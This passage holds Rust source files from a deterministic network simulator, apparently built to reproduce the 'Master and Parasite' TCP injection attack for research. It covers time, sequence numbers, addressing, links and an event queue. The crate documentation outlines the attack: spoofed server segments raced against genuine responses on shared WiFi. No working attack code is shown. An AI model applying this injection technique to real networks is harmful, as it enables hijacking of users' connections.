    pub latency: Duration,
    /// Maximum extra per-packet delay drawn uniformly from `[0, jitter]` by
    /// the simulator's seeded RNG. Zero (the default) disables jitter and
    /// keeps delivery times byte-identical to the jitter-free simulator.
    pub jitter: Duration,
}

impl Medium {
    /// Creates a medium with zero jitter.
    pub fn new(id: MediumId, kind: MediumKind, latency: Duration) -> Self {
        Medium {
            id,
            kind,
            latency,
            jitter: Duration::ZERO,
        }
    }

    /// Returns `true` if taps attached to this medium can observe traffic.
    pub fn observable(&self) -> bool {
        matches!(self.kind, MediumKind::SharedWireless)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_shared_wireless_is_observable() {
        let wifi = Medium::new(MediumId(0), MediumKind::SharedWireless, Duration::from_micros(500));
        let wired = Medium::new(MediumId(1), MediumKind::Switched, Duration::from_micros(100));
        let wan = Medium::new(MediumId(2), MediumKind::WideArea, Duration::from_millis(40));
        assert!(wifi.observable());
        assert!(!wired.observable());
        assert!(!wan.observable());
    }
}
