//! Simulated time.
//!
//! The simulator never consults the wall clock. Time is a monotonically
//! increasing counter of microseconds managed by the event loop.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::ops::{Add, AddAssign, Sub};

/// A point in simulated time, in microseconds since simulation start.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize)]
pub struct Instant(u64);

/// A span of simulated time, in microseconds.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize)]
pub struct Duration(u64);

impl Instant {
    /// The origin of simulated time.
    pub const ZERO: Instant = Instant(0);

    /// Creates an instant from raw microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        Instant(micros)
    }

    /// Returns the raw microsecond count.
    pub const fn as_micros(self) -> u64 {
        self.0
    }

    /// Returns the duration elapsed since `earlier`, saturating at zero.
    pub fn saturating_since(self, earlier: Instant) -> Duration {
        Duration(self.0.saturating_sub(earlier.0))
    }
}

impl Duration {
    /// The zero-length duration.
    pub const ZERO: Duration = Duration(0);

    /// Creates a duration from microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        Duration(micros)
    }

    /// Creates a duration from milliseconds.
    pub const fn from_millis(millis: u64) -> Self {
        Duration(millis * 1_000)
    }

    /// Creates a duration from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        Duration(secs * 1_000_000)
    }

    /// Returns the raw microsecond count.
    pub const fn as_micros(self) -> u64 {
        self.0
    }

    /// Returns the duration in (possibly fractional) milliseconds.
    pub fn as_millis_f64(self) -> f64 {
        self.0 as f64 / 1_000.0
    }

    /// Returns the duration in (possibly fractional) seconds.
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1_000_000.0
    }

    /// Saturating addition of two durations.
    pub fn saturating_add(self, rhs: Duration) -> Duration {
        Duration(self.0.saturating_add(rhs.0))
    }

    /// Multiplies the duration by an integer factor, saturating on overflow.
    pub fn saturating_mul(self, factor: u64) -> Duration {
        Duration(self.0.saturating_mul(factor))
    }
}

impl Add<Duration> for Instant {
    type Output = Instant;
    fn add(self, rhs: Duration) -> Instant {
        Instant(self.0 + rhs.0)
    }
}

impl AddAssign<Duration> for Instant {
    fn add_assign(&mut self, rhs: Duration) {
        self.0 += rhs.0;
    }
}

impl Sub<Instant> for Instant {
    type Output = Duration;
    fn sub(self, rhs: Instant) -> Duration {
        Duration(self.0.saturating_sub(rhs.0))
    }
}

impl Add<Duration> for Duration {
    type Output = Duration;
    fn add(self, rhs: Duration) -> Duration {
        Duration(self.0 + rhs.0)
    }
}

impl fmt::Display for Instant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t+{}us", self.0)
    }
}

impl fmt::Display for Duration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0 >= 1_000_000 {
            write!(f, "{:.3}s", self.as_secs_f64())
        } else if self.0 >= 1_000 {
            write!(f, "{:.3}ms", self.as_millis_f64())
        } else {
            write!(f, "{}us", self.0)
        }
    }
}

/// The simulation clock. Owned by the event loop; read-only access is handed
/// to nodes through the simulation context.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SimClock {
    now: Instant,
}

impl SimClock {
    /// Creates a clock at time zero.
    pub fn new() -> Self {
        SimClock { now: Instant::ZERO }
    }

    /// Returns the current simulated time.
    pub fn now(&self) -> Instant {
        self.now
    }

    /// Advances the clock to `to`.
    ///
    /// # Panics
    ///
    /// Panics if `to` is earlier than the current time; simulated time is
    /// monotone and the event loop must never schedule into the past.
    pub fn advance_to(&mut self, to: Instant) {
        assert!(
            to >= self.now,
            "simulated clock may not move backwards: {} -> {}",
            self.now,
            to
        );
        self.now = to;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn instant_arithmetic_round_trips() {
        let start = Instant::from_micros(100);
        let later = start + Duration::from_millis(2);
        assert_eq!(later.as_micros(), 2_100);
        assert_eq!((later - start).as_micros(), 2_000);
    }

    #[test]
    fn duration_constructors_scale() {
        assert_eq!(Duration::from_secs(1).as_micros(), 1_000_000);
        assert_eq!(Duration::from_millis(3).as_micros(), 3_000);
        assert_eq!(Duration::from_micros(7).as_micros(), 7);
    }

    #[test]
    fn subtraction_saturates_instead_of_underflowing() {
        let early = Instant::from_micros(5);
        let late = Instant::from_micros(10);
        assert_eq!((early - late).as_micros(), 0);
        assert_eq!(early.saturating_since(late), Duration::ZERO);
    }

    #[test]
    fn clock_advances_monotonically() {
        let mut clock = SimClock::new();
        clock.advance_to(Instant::from_micros(10));
        clock.advance_to(Instant::from_micros(10));
        assert_eq!(clock.now().as_micros(), 10);
    }

    #[test]
    #[should_panic(expected = "may not move backwards")]
    fn clock_rejects_time_travel() {
        let mut clock = SimClock::new();
        clock.advance_to(Instant::from_micros(10));
        clock.advance_to(Instant::from_micros(5));
    }

    #[test]
    fn duration_display_picks_unit() {
        assert_eq!(Duration::from_micros(12).to_string(), "12us");
        assert_eq!(Duration::from_millis(12).to_string(), "12.000ms");
        assert_eq!(Duration::from_secs(2).to_string(), "2.000s");
    }
}
