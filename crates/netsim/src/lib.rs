//! # mp-netsim
//!
//! A deterministic, packet-level network simulator used by the
//! *Master and Parasite Attack* reproduction.
//!
//! The crate models exactly the parts of the network stack that the paper's
//! transport-layer attack depends on:
//!
//! * IPv4/TCP segments with sequence/acknowledgement numbers
//!   ([`packet`], [`seq`]),
//! * a per-connection TCP state machine with **first-segment-wins**
//!   reassembly ([`tcp`]) — the property the injection attack exploits,
//! * links with latency and an optional *shared medium* (public WiFi) on
//!   which an eavesdropper receives a copy of every frame ([`link`]),
//! * hosts with a socket-like API ([`endpoint`]),
//! * a discrete-event simulator that delivers packets in timestamp order
//!   ([`sim`]),
//! * the *master* attacker: an [`attacker::Eavesdropper`] that observes
//!   client segments and an [`attacker::Injector`] that crafts spoofed
//!   server segments and races them against the genuine response.
//!
//! Everything is deterministic: there is no wall-clock time and all
//! randomness is injected by the caller through seeded RNGs.
//!
//! ## Example
//!
//! ```rust
//! use mp_netsim::sim::Simulator;
//! use mp_netsim::link::MediumKind;
//! use mp_netsim::addr::IpAddr;
//!
//! # fn main() -> Result<(), mp_netsim::NetError> {
//! let mut sim = Simulator::new(42);
//! let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
//! let client = sim.add_host("client", IpAddr::new(10, 0, 0, 2), wifi);
//! let server = sim.add_host("server", IpAddr::new(93, 184, 216, 34), wifi);
//! sim.listen(server, 80);
//! let conn = sim.connect(client, server, 80)?;
//! sim.send(client, conn, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n")?;
//! sim.run_until_idle()?;
//! let server_conn = sim.connections(server)[0];
//! let delivered = sim.received(server, server_conn);
//! assert!(delivered.starts_with(b"GET /"));
//! # Ok(())
//! # }
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod addr;
pub mod attacker;
pub mod capture;
pub mod dist;
pub mod endpoint;
pub mod error;
pub mod fasthash;
pub mod link;
pub mod packet;
mod queue;
pub mod seq;
pub mod sim;
pub mod tcp;
pub mod time;

pub use addr::{IpAddr, SocketAddr};
pub use capture::{Trace, TraceMode, TraceSummary};
pub use error::NetError;
pub use packet::{Packet, Segment, TcpFlags};
pub use sim::Simulator;
pub use time::{Duration, Instant};
