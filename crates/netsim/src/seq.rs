//! TCP sequence-number arithmetic.
//!
//! Sequence numbers live in a 32-bit space that wraps around, so ordinary
//! integer comparison is wrong once a connection has transferred enough data.
//! [`SeqNum`] implements RFC 793 modular comparison, which both the genuine
//! TCP endpoints and the attacker's injector use to decide whether a segment
//! falls inside the receive window.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::ops::{Add, Sub};

/// A 32-bit TCP sequence number with wrapping (modular) arithmetic.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub struct SeqNum(u32);

impl SeqNum {
    /// Creates a sequence number from its raw value.
    pub const fn new(value: u32) -> Self {
        SeqNum(value)
    }

    /// Returns the raw 32-bit value.
    pub const fn value(self) -> u32 {
        self.0
    }

    /// Modular "less than": `self` precedes `other` in sequence space.
    ///
    /// Two sequence numbers are comparable as long as they are within
    /// 2^31 of each other, which always holds for live connections.
    pub fn precedes(self, other: SeqNum) -> bool {
        (other.0.wrapping_sub(self.0) as i32) > 0
    }

    /// Modular "less than or equal".
    pub fn precedes_or_eq(self, other: SeqNum) -> bool {
        self == other || self.precedes(other)
    }

    /// Returns the number of bytes from `self` to `other` walking forward in
    /// sequence space (modular subtraction).
    pub fn distance_to(self, other: SeqNum) -> u32 {
        other.0.wrapping_sub(self.0)
    }

    /// Returns `true` if `self` lies in the half-open window
    /// `[start, start + len)` in modular arithmetic.
    pub fn in_window(self, start: SeqNum, len: u32) -> bool {
        start.distance_to(self) < len
    }
}

impl Add<u32> for SeqNum {
    type Output = SeqNum;
    fn add(self, rhs: u32) -> SeqNum {
        SeqNum(self.0.wrapping_add(rhs))
    }
}

impl Sub<u32> for SeqNum {
    type Output = SeqNum;
    fn sub(self, rhs: u32) -> SeqNum {
        SeqNum(self.0.wrapping_sub(rhs))
    }
}

impl fmt::Display for SeqNum {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}", self.0)
    }
}

impl From<u32> for SeqNum {
    fn from(value: u32) -> Self {
        SeqNum(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn ordering_without_wraparound() {
        assert!(SeqNum::new(10).precedes(SeqNum::new(20)));
        assert!(!SeqNum::new(20).precedes(SeqNum::new(10)));
        assert!(!SeqNum::new(10).precedes(SeqNum::new(10)));
        assert!(SeqNum::new(10).precedes_or_eq(SeqNum::new(10)));
    }

    #[test]
    fn ordering_across_wraparound() {
        let near_max = SeqNum::new(u32::MAX - 5);
        let wrapped = near_max + 10;
        assert_eq!(wrapped.value(), 4);
        assert!(near_max.precedes(wrapped));
        assert!(!wrapped.precedes(near_max));
        assert_eq!(near_max.distance_to(wrapped), 10);
    }

    #[test]
    fn window_membership() {
        let start = SeqNum::new(1000);
        assert!(SeqNum::new(1000).in_window(start, 100));
        assert!(SeqNum::new(1099).in_window(start, 100));
        assert!(!SeqNum::new(1100).in_window(start, 100));
        assert!(!SeqNum::new(999).in_window(start, 100));
    }

    #[test]
    fn window_membership_across_wraparound() {
        let start = SeqNum::new(u32::MAX - 10);
        assert!(SeqNum::new(u32::MAX).in_window(start, 64_000));
        assert!(SeqNum::new(5).in_window(start, 64_000));
        assert!(!SeqNum::new(64_000).in_window(start, 64_000));
    }

    proptest! {
        /// Adding then measuring distance recovers the addend for any offset
        /// representable in the window (< 2^31).
        #[test]
        fn distance_inverts_addition(base in any::<u32>(), delta in 0u32..i32::MAX as u32) {
            let start = SeqNum::new(base);
            let end = start + delta;
            prop_assert_eq!(start.distance_to(end), delta);
            if delta > 0 {
                prop_assert!(start.precedes(end));
            }
        }

        /// `precedes` is asymmetric for distinct comparable numbers.
        #[test]
        fn precedes_is_asymmetric(base in any::<u32>(), delta in 1u32..i32::MAX as u32) {
            let a = SeqNum::new(base);
            let b = a + delta;
            prop_assert!(a.precedes(b));
            prop_assert!(!b.precedes(a));
        }
    }
}
