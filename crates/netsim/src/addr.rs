//! Network addressing: IPv4 addresses, ports and socket addresses.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// An IPv4 address.
///
/// The simulator only needs enough of an address to identify endpoints and to
/// let the attacker spoof the server's source address, so a thin wrapper over
/// the four octets is sufficient.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct IpAddr([u8; 4]);

impl IpAddr {
    /// The unspecified address `0.0.0.0`.
    pub const UNSPECIFIED: IpAddr = IpAddr([0, 0, 0, 0]);

    /// Creates an address from its four octets.
    pub const fn new(a: u8, b: u8, c: u8, d: u8) -> Self {
        IpAddr([a, b, c, d])
    }

    /// Returns the four octets.
    pub const fn octets(self) -> [u8; 4] {
        self.0
    }

    /// Returns the address as a single big-endian `u32`.
    pub const fn to_u32(self) -> u32 {
        u32::from_be_bytes(self.0)
    }

    /// Creates an address from a big-endian `u32`.
    pub const fn from_u32(value: u32) -> Self {
        IpAddr(value.to_be_bytes())
    }

    /// Returns `true` if the address lies in the RFC 1918 private ranges.
    pub fn is_private(self) -> bool {
        let [a, b, _, _] = self.0;
        a == 10 || (a == 172 && (16..=31).contains(&b)) || (a == 192 && b == 168)
    }
}

impl fmt::Display for IpAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [a, b, c, d] = self.0;
        write!(f, "{a}.{b}.{c}.{d}")
    }
}

/// Error returned when parsing an [`IpAddr`] from a string fails.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseIpError(String);

impl fmt::Display for ParseIpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid IPv4 address syntax: {}", self.0)
    }
}

impl std::error::Error for ParseIpError {}

impl FromStr for IpAddr {
    type Err = ParseIpError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let mut octets = [0u8; 4];
        let mut parts = s.split('.');
        for octet in &mut octets {
            let part = parts.next().ok_or_else(|| ParseIpError(s.to_string()))?;
            *octet = part.parse().map_err(|_| ParseIpError(s.to_string()))?;
        }
        if parts.next().is_some() {
            return Err(ParseIpError(s.to_string()));
        }
        Ok(IpAddr(octets))
    }
}

impl From<[u8; 4]> for IpAddr {
    fn from(octets: [u8; 4]) -> Self {
        IpAddr(octets)
    }
}

/// A transport-layer endpoint: IPv4 address plus TCP port.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct SocketAddr {
    /// The IPv4 address.
    pub ip: IpAddr,
    /// The TCP port.
    pub port: u16,
}

impl SocketAddr {
    /// Creates a socket address.
    pub const fn new(ip: IpAddr, port: u16) -> Self {
        SocketAddr { ip, port }
    }
}

impl fmt::Display for SocketAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.ip, self.port)
    }
}

/// The four-tuple that identifies a TCP connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct FourTuple {
    /// Source (client) endpoint.
    pub src: SocketAddr,
    /// Destination (server) endpoint.
    pub dst: SocketAddr,
}

impl FourTuple {
    /// Creates a four-tuple.
    pub const fn new(src: SocketAddr, dst: SocketAddr) -> Self {
        FourTuple { src, dst }
    }

    /// Returns the tuple with source and destination swapped, i.e. the tuple
    /// that identifies traffic flowing in the opposite direction.
    pub const fn reversed(self) -> Self {
        FourTuple {
            src: self.dst,
            dst: self.src,
        }
    }
}

impl fmt::Display for FourTuple {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} -> {}", self.src, self.dst)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_and_parse_round_trip() {
        let addr = IpAddr::new(192, 168, 1, 42);
        assert_eq!(addr.to_string(), "192.168.1.42");
        assert_eq!("192.168.1.42".parse::<IpAddr>().unwrap(), addr);
    }

    #[test]
    fn parse_rejects_malformed_addresses() {
        assert!("1.2.3".parse::<IpAddr>().is_err());
        assert!("1.2.3.4.5".parse::<IpAddr>().is_err());
        assert!("1.2.3.256".parse::<IpAddr>().is_err());
        assert!("a.b.c.d".parse::<IpAddr>().is_err());
    }

    #[test]
    fn u32_round_trip() {
        let addr = IpAddr::new(93, 184, 216, 34);
        assert_eq!(IpAddr::from_u32(addr.to_u32()), addr);
    }

    #[test]
    fn private_range_detection() {
        assert!(IpAddr::new(10, 1, 2, 3).is_private());
        assert!(IpAddr::new(172, 16, 0, 1).is_private());
        assert!(IpAddr::new(172, 31, 255, 1).is_private());
        assert!(IpAddr::new(192, 168, 0, 1).is_private());
        assert!(!IpAddr::new(172, 32, 0, 1).is_private());
        assert!(!IpAddr::new(8, 8, 8, 8).is_private());
    }

    #[test]
    fn four_tuple_reversal_is_involutive() {
        let tuple = FourTuple::new(
            SocketAddr::new(IpAddr::new(10, 0, 0, 2), 51000),
            SocketAddr::new(IpAddr::new(93, 184, 216, 34), 80),
        );
        assert_eq!(tuple.reversed().reversed(), tuple);
        assert_eq!(tuple.reversed().src.port, 80);
    }
}
