//! The simulator's event queue: a calendar queue with a heap overflow tier.
//!
//! The classic discrete-event-simulation result (Brown's calendar queue,
//! CACM 1988) is that a bucketed structure beats a binary heap once the event
//! population is non-trivial: pushes and pops touch one small bucket instead
//! of sifting through `log n` heap levels. This module implements that shape
//! for the simulator:
//!
//! * near-future events (within the wheel horizon of the cursor) live in a
//!   circular array of [`SLOTS`] buckets, each `1 << SLOT_SHIFT` microseconds
//!   wide and kept sorted so pops are exact;
//! * far-future events overflow into a [`BinaryHeap`] and migrate into the
//!   wheel as simulated time advances;
//! * the queue stores only compact [`EventKey`]s — the packet payloads
//!   themselves sit in an [`EventPool`] slab whose slots are recycled through
//!   a free list, so steady-state operation allocates nothing.
//!
//! The pop order is the exact total order on `(at, seq)` that the previous
//! `BinaryHeap<QueuedEvent>` produced, which is what keeps traces
//! byte-identical across the data-structure swap.

use crate::endpoint::HostId;
use crate::packet::Packet;
use crate::time::Instant;
use std::cmp::{Ordering, Reverse};
use std::collections::BinaryHeap;

/// Width of one calendar bucket, as a power-of-two microsecond count
/// (`1 << SLOT_SHIFT`).
const SLOT_SHIFT: u32 = 11;

/// Number of buckets in the wheel (a power of two). One bucket spans
/// `1 << SLOT_SHIFT` = 2048 µs — comfortably finer than the simulator's
/// typical 2–40 ms medium latencies — so the wheel reaches ~131 ms ahead of
/// the cursor; events scheduled beyond that go to the overflow heap.
const SLOTS: usize = 64;

/// Compact ordering key for one queued event: delivery time, global sequence
/// number (total-order tiebreak) and the pool slot holding the payload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct EventKey {
    /// Delivery time.
    pub(crate) at: Instant,
    /// Global push sequence number; unique, so `(at, seq)` is a total order.
    pub(crate) seq: u64,
    /// Index into the owning [`EventPool`].
    pub(crate) slot: u32,
}

impl Ord for EventKey {
    fn cmp(&self, other: &Self) -> Ordering {
        self.at.cmp(&other.at).then_with(|| self.seq.cmp(&other.seq))
    }
}

impl PartialOrd for EventKey {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// The payload of one queued event.
#[derive(Debug)]
pub(crate) struct EventBody {
    /// Destination host.
    pub(crate) to: HostId,
    /// The packet being delivered.
    pub(crate) packet: Packet,
}

/// Slab of event payloads with a free list, so dequeued events are recycled
/// instead of reallocated.
#[derive(Debug, Default)]
pub(crate) struct EventPool {
    slots: Vec<Option<EventBody>>,
    free: Vec<u32>,
}

impl EventPool {
    /// Stores a body, reusing a free slot when one exists.
    pub(crate) fn insert(&mut self, body: EventBody) -> u32 {
        if let Some(slot) = self.free.pop() {
            self.slots[slot as usize] = Some(body);
            slot
        } else {
            let slot = u32::try_from(self.slots.len()).expect("event pool fits in u32");
            self.slots.push(Some(body));
            slot
        }
    }

    /// Removes and returns the body in `slot`, recycling the slot.
    ///
    /// # Panics
    ///
    /// Panics if the slot is empty (a key was popped twice).
    pub(crate) fn take(&mut self, slot: u32) -> EventBody {
        let body = self.slots[slot as usize]
            .take()
            .expect("pool slot holds a queued event");
        self.free.push(slot);
        body
    }
}

/// One wheel bucket, lazily sorted (the classic calendar-queue trick): keys
/// accumulate unsorted with O(1) pushes while the bucket lies in the future,
/// are sorted ascending by `(at, seq)` exactly once when the cursor reaches
/// the bucket, and then drain from the front through `head`. Only an event
/// scheduled *into the bucket currently being drained* pays for a sorted
/// insert, and such events are rare (the delivery latency usually clears the
/// cursor's ~2 ms bucket).
#[derive(Debug, Default)]
struct Bucket {
    keys: Vec<EventKey>,
    /// Index of the next key to pop; `keys[..head]` is already consumed.
    /// Meaningful only while `sorted`.
    head: usize,
    /// Whether `keys[head..]` is currently in ascending `(at, seq)` order.
    sorted: bool,
}

impl Bucket {
    /// Sorts the live region if the bucket has not been prepared for
    /// draining yet.
    fn ensure_sorted(&mut self) {
        if !self.sorted {
            debug_assert_eq!(self.head, 0, "unsorted buckets have never been popped");
            self.keys.sort_unstable();
            self.sorted = true;
        }
    }

    fn peek(&mut self) -> Option<&EventKey> {
        if self.keys.is_empty() {
            return None;
        }
        self.ensure_sorted();
        self.keys.get(self.head)
    }

    fn pop(&mut self) -> Option<EventKey> {
        if self.keys.is_empty() {
            return None;
        }
        self.ensure_sorted();
        let key = *self.keys.get(self.head)?;
        self.head += 1;
        if self.head == self.keys.len() {
            // Fully drained: reuse the buffer from the start.
            self.keys.clear();
            self.head = 0;
            self.sorted = false;
        }
        Some(key)
    }

    fn push(&mut self, key: EventKey) {
        if !self.sorted {
            // Future bucket: plain append, sorting is deferred to the drain.
            self.keys.push(key);
        } else if self.keys.last().is_none_or(|last| *last < key) {
            self.keys.push(key);
        } else {
            // Rare: an event lands in the bucket mid-drain, behind its tail.
            let live = &self.keys[self.head..];
            let position = self.head + live.partition_point(|queued| *queued < key);
            self.keys.insert(position, key);
        }
    }
}

/// Calendar queue over [`EventKey`]s: a sorted-bucket wheel for the near
/// future plus a binary-heap overflow tier for everything beyond the horizon.
#[derive(Debug, Default)]
pub(crate) struct CalendarQueue {
    /// Circular bucket array.
    wheel: Vec<Bucket>,
    /// Events at or beyond the wheel horizon, as a min-heap.
    overflow: BinaryHeap<Reverse<EventKey>>,
    /// Absolute bucket index (`at >> SLOT_SHIFT`) below which every wheel
    /// bucket is empty. Monotone: it only advances, tracking simulated time.
    cursor: u64,
    /// Number of wheel-resident events.
    wheel_len: usize,
}

impl CalendarQueue {
    /// Creates an empty queue.
    pub(crate) fn new() -> Self {
        CalendarQueue {
            wheel: (0..SLOTS).map(|_| Bucket::default()).collect(),
            overflow: BinaryHeap::new(),
            cursor: 0,
            wheel_len: 0,
        }
    }

    /// Total queued events.
    pub(crate) fn len(&self) -> usize {
        self.wheel_len + self.overflow.len()
    }

    /// Returns `true` if no events are queued.
    pub(crate) fn is_empty(&self) -> bool {
        self.len() == 0
    }

    fn bucket_of(at: Instant) -> u64 {
        at.as_micros() >> SLOT_SHIFT
    }

    /// Inserts a key.
    ///
    /// The simulator never schedules before the last popped key's time, so
    /// `bucket_of(key.at) >= cursor` normally holds. The bucket index is
    /// still clamped to the cursor: a key whose timestamp falls earlier in
    /// the cursor's own bucket span lands in the currently draining bucket,
    /// where the in-bucket `(at, seq)` sort keeps the pop order exact. The
    /// previous `debug_assert!` guarded this only in debug builds — in
    /// release an early key would have been filed under an *aliased* future
    /// bucket and popped out of order.
    pub(crate) fn push(&mut self, key: EventKey) {
        let bucket = Self::bucket_of(key.at).max(self.cursor);
        if bucket < self.cursor + SLOTS as u64 {
            self.wheel[(bucket & (SLOTS as u64 - 1)) as usize].push(key);
            self.wheel_len += 1;
        } else {
            self.overflow.push(Reverse(key));
        }
    }

    /// Removes and returns the minimum `(at, seq)` key.
    pub(crate) fn pop(&mut self) -> Option<EventKey> {
        if self.wheel_len > 0 {
            for offset in 0..SLOTS as u64 {
                let bucket = self.cursor + offset;
                let ring = (bucket & (SLOTS as u64 - 1)) as usize;
                if let Some(key) = self.wheel[ring].pop() {
                    self.wheel_len -= 1;
                    self.advance_to(bucket);
                    return Some(key);
                }
            }
            // The wheel_len counter is kept in lockstep with the buckets. mp-lint: allow(panic-discipline)
            unreachable!("wheel_len > 0 but every bucket within the horizon is empty");
        }
        let Reverse(key) = self.overflow.pop()?;
        self.advance_to(Self::bucket_of(key.at));
        Some(key)
    }

    /// The minimum queued delivery time, without removing anything. Takes
    /// `&mut self` because discovering a bucket prepares (sorts) it for
    /// draining.
    pub(crate) fn peek_at(&mut self) -> Option<Instant> {
        if self.wheel_len > 0 {
            for offset in 0..SLOTS as u64 {
                let ring = ((self.cursor + offset) & (SLOTS as u64 - 1)) as usize;
                if let Some(key) = self.wheel[ring].peek() {
                    return Some(key.at);
                }
            }
        }
        self.overflow.peek().map(|Reverse(key)| key.at)
    }

    /// Advances the cursor to `bucket` and migrates overflow events that the
    /// enlarged horizon now covers into the wheel.
    fn advance_to(&mut self, bucket: u64) {
        if bucket <= self.cursor {
            return;
        }
        self.cursor = bucket;
        let horizon = self.cursor + SLOTS as u64;
        while let Some(Reverse(key)) = self.overflow.peek() {
            if Self::bucket_of(key.at) >= horizon {
                break;
            }
            let Reverse(key) = self.overflow.pop().expect("peeked above");
            let bucket = Self::bucket_of(key.at);
            self.wheel[(bucket & (SLOTS as u64 - 1)) as usize].push(key);
            self.wheel_len += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key(at: u64, seq: u64) -> EventKey {
        EventKey {
            at: Instant::from_micros(at),
            seq,
            slot: seq as u32,
        }
    }

    /// Popping must yield the exact (at, seq) total order a binary heap would.
    fn assert_pops_sorted(mut queue: CalendarQueue, mut expected: Vec<EventKey>) {
        expected.sort();
        let mut popped = Vec::new();
        while let Some(key) = queue.pop() {
            popped.push(key);
        }
        assert_eq!(popped, expected);
        assert!(queue.is_empty());
    }

    #[test]
    fn pops_in_at_seq_order_within_the_wheel() {
        let mut queue = CalendarQueue::new();
        let keys = vec![key(5_000, 2), key(2_000, 0), key(5_000, 1), key(0, 3), key(40_000, 4)];
        for &k in &keys {
            queue.push(k);
        }
        assert_eq!(queue.len(), 5);
        assert_eq!(queue.peek_at(), Some(Instant::from_micros(0)));
        assert_pops_sorted(queue, keys);
    }

    #[test]
    fn far_future_events_overflow_and_migrate_back() {
        let mut queue = CalendarQueue::new();
        let mut keys = Vec::new();
        // One near event plus a spread reaching far beyond the wheel horizon.
        for seq in 0..200u64 {
            let k = key(seq * 10_000, seq);
            keys.push(k);
            queue.push(k);
        }
        assert!(queue.len() == 200);
        assert_pops_sorted(queue, keys);
    }

    #[test]
    fn interleaved_push_pop_preserves_order() {
        let mut queue = CalendarQueue::new();
        let mut seq = 0u64;
        let alloc = |at: u64, seq: &mut u64| {
            let k = key(at, *seq);
            *seq += 1;
            k
        };
        queue.push(alloc(2_000, &mut seq));
        queue.push(alloc(42_000, &mut seq));
        let first = queue.pop().unwrap();
        assert_eq!(first.at.as_micros(), 2_000);
        // Schedule relative to the popped event's time, as the simulator does.
        queue.push(alloc(first.at.as_micros() + 2_000, &mut seq));
        queue.push(alloc(first.at.as_micros() + 500_000, &mut seq));
        let order: Vec<u64> = std::iter::from_fn(|| queue.pop()).map(|k| k.at.as_micros()).collect();
        assert_eq!(order, vec![4_000, 42_000, 502_000]);
    }

    #[test]
    fn same_timestamp_pops_in_push_order() {
        let mut queue = CalendarQueue::new();
        for seq in 0..100u64 {
            queue.push(key(7_000, seq));
        }
        let seqs: Vec<u64> = std::iter::from_fn(|| queue.pop()).map(|k| k.seq).collect();
        assert_eq!(seqs, (0..100).collect::<Vec<_>>());
    }

    /// The wheel horizon in microseconds: events further out go to the
    /// overflow heap.
    const HORIZON_US: u64 = (SLOTS as u64) << SLOT_SHIFT;

    #[test]
    fn events_straddling_the_horizon_boundary_pop_in_exact_order() {
        // Keys pushed exactly around the 64×2048 µs wheel span: the last
        // in-wheel bucket, the first overflow bucket and one bucket further,
        // interleaved with near keys and with ties on both sides of the edge.
        let mut queue = CalendarQueue::new();
        let edge = HORIZON_US;
        let keys = vec![
            key(edge - 1, 0),      // last wheel bucket
            key(edge, 1),          // first overflow bucket
            key(edge, 2),          // tie in the overflow tier
            key(edge - 1, 3),      // tie in the last wheel bucket
            key(edge + (1 << SLOT_SHIFT), 4),
            key(10, 5),            // near key, pops first
            key(edge - (1 << SLOT_SHIFT), 6),
        ];
        for &k in &keys {
            queue.push(k);
        }
        assert_pops_sorted(queue, keys);
    }

    #[test]
    fn multi_day_timestamps_cross_the_overflow_tier_in_order() {
        // Multi-day campaigns schedule across day boundaries: timestamps in
        // the 10^11 µs range live far beyond the wheel span and must migrate
        // back through the overflow heap in exact (at, seq) order.
        const DAY_US: u64 = 86_400_000_000;
        let mut queue = CalendarQueue::new();
        let mut keys = Vec::new();
        let mut seq = 0u64;
        for day in 0..7u64 {
            for offset in [0, 1, 2_000, HORIZON_US - 1, HORIZON_US, 3 * HORIZON_US] {
                let k = key(day * DAY_US + offset, seq);
                seq += 1;
                keys.push(k);
                queue.push(k);
            }
        }
        assert_pops_sorted(queue, keys);
    }

    #[test]
    fn interleaved_pops_and_horizon_pushes_match_a_reference_heap() {
        // Differential check against a total-order reference: pseudo-random
        // pushes relative to the last popped time — some near, some exactly
        // at the horizon, some days out — interleaved with pops. The
